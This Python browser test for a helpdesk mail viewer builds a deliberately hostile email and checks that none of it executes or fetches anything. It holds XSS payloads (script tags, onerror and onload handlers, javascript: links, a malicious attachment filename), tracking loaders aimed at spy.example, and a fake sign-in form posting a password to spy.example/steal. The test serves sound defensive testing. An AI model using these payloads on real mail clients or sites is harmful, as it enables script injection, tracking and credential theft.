"""A mail that tries everything at once, read by an agent in a real browser: nothing of it runs or loads."""

from email.message import EmailMessage

import pytest
from playwright.sync_api import Browser, expect

from tests.browser.running import RunningDesk, log_in
from tests.letterbox import png
from tests.servers.dovecot import Dovecot

pytestmark = [pytest.mark.browser, pytest.mark.trust]

SPY = "http://spy.example"
SCRIPT = "<script>window.taken = 1; alert(1)</script>"
IMAGE = f"<img src={SPY}/x onerror='window.taken = 1; alert(2)'>"
HTML = f"""<html><head>
<base href="{SPY}/"><link rel="stylesheet" href="{SPY}/a.css">
<meta http-equiv="refresh" content="0;url={SPY}/r">
<style>@import "{SPY}/b.css"; body {{ background: url({SPY}/c.png) }}</style></head>
<body onload="window.taken = 1">{SCRIPT}{IMAGE}
<p style="background: url({SPY}/d.png)">The visible words</p>
<svg><script>window.taken = 1</script><image href="{SPY}/e.png"/></svg>
<iframe src="{SPY}/f"></iframe><object data="{SPY}/g"></object><video poster="{SPY}/h.png"></video>
<a href="javascript:window.taken = 1; alert(3)">a tempting link</a>
<form action="{SPY}/steal"><input name="password"><button>Sign in again</button></form>
</body></html>"""


def hostile() -> bytes:
    mail = EmailMessage()
    mail["From"] = f'"{SCRIPT}" <eve@else.example>'
    mail["To"], mail["Message-ID"] = "support@shop.example", "<hostile@else.example>"
    mail["Subject"] = f"{SCRIPT} {IMAGE}"
    mail.set_content(f"{SCRIPT}\n{IMAGE}\n\njavascript:alert(4)\n")
    mail.add_alternative(HTML, subtype="html")
    name = "<img src=x onerror=alert(5)>.png"
    mail.add_attachment(png(), maintype="image", subtype="png", filename=name)
    picture = b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(6)'/>"
    mail.add_attachment(picture, maintype="image", subtype="svg+xml", filename="photo.svg")
    return mail.as_bytes()


@pytest.fixture
def database_url(sqlite_url: str) -> str:
    """A browser sees the same of both engines."""
    return sqlite_url


def test_nothing_of_a_hostile_mail_runs_or_is_fetched(
    desk: RunningDesk, dovecot: Dovecot, chromium: Browser
) -> None:
    with desk.running("up", until="connected"):
        dovecot.deliver(desk.user, hostile())
        page = log_in(chromium, desk.url, locale="en-GB")
        alerts: list[str] = []
        abroad: list[str] = []
        page.on("dialog", lambda dialog: (alerts.append(dialog.message), dialog.dismiss()))
        page.context.on(
            "request",
            lambda asked: abroad.append(asked.url) if not asked.url.startswith(desk.url) else None,
        )

        expect(page.locator("#row-1")).to_contain_text("<script>", timeout=15_000)
        page.click("#row-1")
        expect(page.locator("h1")).to_contain_text(SCRIPT)
        expect(page.locator(".entry-head b").first).to_contain_text("<script>")
        expect(page.locator(".words").first).to_contain_text("<img src=")
        expect(page.locator(".files")).to_contain_text("onerror=alert(5)")
        page.click(".original summary")
        frame = page.frame_locator(".original iframe")
        expect(frame.locator("body")).to_contain_text("The visible words")
        expect(frame.locator("script, form, iframe, object, svg, link, base")).to_have_count(0)
        expect(frame.locator("a[href^='javascript']")).to_have_count(0)
        page.wait_for_timeout(1_000)  # what would load late

        assert alerts == []
        assert abroad == []
        assert [each.evaluate("window.taken") for each in page.frames] == [None] * len(page.frames)
        assert page.url.startswith(desk.url)
